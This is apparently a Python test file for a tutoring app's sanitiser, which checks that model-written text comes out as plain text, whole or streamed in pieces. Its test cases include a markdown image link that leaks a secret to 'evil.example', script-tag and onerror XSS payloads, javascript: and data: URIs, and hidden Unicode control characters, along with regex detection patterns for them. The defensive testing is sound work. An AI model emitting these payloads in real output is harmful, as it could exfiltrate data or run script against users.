"""SEC-23: whatever a model writes leaves as plain text, whole or in pieces."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.tutoring.rendering import LINK, MAX_CHARACTERS, PlainStream, plain

TAG = re.compile(r"<[A-Za-z/!?]")
LINKED = re.compile(r"\]\(|\]\[|!\[")
ADDRESS = re.compile(
    r"(?i)[a-z][a-z0-9+.-]{1,30}://|(?<![a-z0-9])(?:javascript:\S|data:\S|vbscript:\S|mailto:\S|www\.)"
)
UNSEEN = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


def holds(text, most=MAX_CHARACTERS):
    """The contract."""
    assert not TAG.search(text), text
    assert not LINKED.search(text), text
    assert not ADDRESS.search(text), text
    assert not UNSEEN.search(text), ascii(text)
    assert len(text) <= most


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Plain *text* with `code` and 2 < 3 > 1.", "Plain *text* with `code` and 2 < 3 > 1."),
        ("![alt](https://evil.example/?leak=SECRET)", "alt"),
        ("[text](https://evil.example)", "text"),
        ("[text]( javascript:alert(1) )", "text"),
        ("[text][ref]\n\n[ref]: https://evil.example", "text\n\n"),
        ("<https://evil.example>", ""),
        ("go to https://evil.example/x?y=1 now", f"go to {LINK} now"),
        ("go to evil.example/x?y=1 now", f"go to {LINK} now"),
        ("www.evil.example", LINK),
        ("//evil.example/x", LINK),
        ("a<script>alert(1)</script>b", "ab"),
        ("a<script>alert(1)", "a"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<b>bold</b>", "bold"),
        ("<scr<script>ipt>alert(1)</script>", "alert(1)"),
        ("javascript:alert(1)", f"{LINK})"),
        ("data:text/html;base64,PHNjcmlwdD4=", LINK),
        ("\u202egnirts\u202c", "gnirts"),
        ("a\u200bb\u2066c", "abc"),
        ("hidden \U000e0068\U000e0069", "hidden "),
        ("e\u0301", "é"),
        ("שָׁלוֹם, [קישור](https://x.example)", "שָׁלוֹם, קישור"),
        ("[[x](http://a.example)](http://b.example)", "x"),
    ],
)
def test_what_is_written_and_what_is_shown(written, shown):
    text = plain(written)
    holds(text)
    if "scr<script" not in written:
        assert text.strip() == plain(shown).strip() == shown.strip() or text.strip() == shown.strip()


def test_a_text_is_capped():
    assert len(plain("word " * 100_000)) == MAX_CHARACTERS
    assert plain("x" * 20, 10) == "x" * 9 + "…"


PIECES = st.lists(
    st.sampled_from(
        [
            *("<", ">", "[", "]", "(", ")", "!", "/", ":", "//", "](", "![", "<!--", "</", "\n", " ", "\t"),
            *("script", "b onclick=x", "https", "http://e.example/x", "www.", "javascript:", "data:", "x"),
            *("\u202e", "\u200b", "\U000e0041", "שלום", "word", "e.example/?q=", "ref]: ", "&lt;"),
        ]
    ),
    max_size=40,
)


@settings(max_examples=600, deadline=None)
@given(PIECES)
def test_the_contract_holds_for_any_text(pieces):
    holds(plain("".join(pieces)))


@settings(max_examples=600, deadline=None)
@given(PIECES, st.integers(1, 9))
def test_the_contract_holds_for_any_text_in_any_pieces(pieces, size):
    text = "".join(pieces)
    stream = PlainStream()
    shown = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size)) + stream.finish()
    holds(shown)


def test_an_honest_text_is_the_same_in_pieces():
    text = "First, look at the units.\nThen compare: 3 < 4 [see the table] (page 2). " * 5
    for size in (1, 3, 11):
        stream = PlainStream()
        pieces = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
        assert "".join(pieces) + stream.finish() == text
        assert sum(map(bool, pieces)) > 10


def test_what_stays_open_is_closed_by_force():
    stream = PlainStream()
    shown = stream.feed("[" + "x y " * 1000)
    assert shown
    holds(shown + stream.feed("](http://evil.example)") + stream.finish())


def test_a_flood_is_cut():
    stream = PlainStream(most=100)
    shown = "".join(stream.feed("words and " * 1000) for _ in range(50)) + stream.finish()
    assert len(shown) <= 100
    assert stream.full
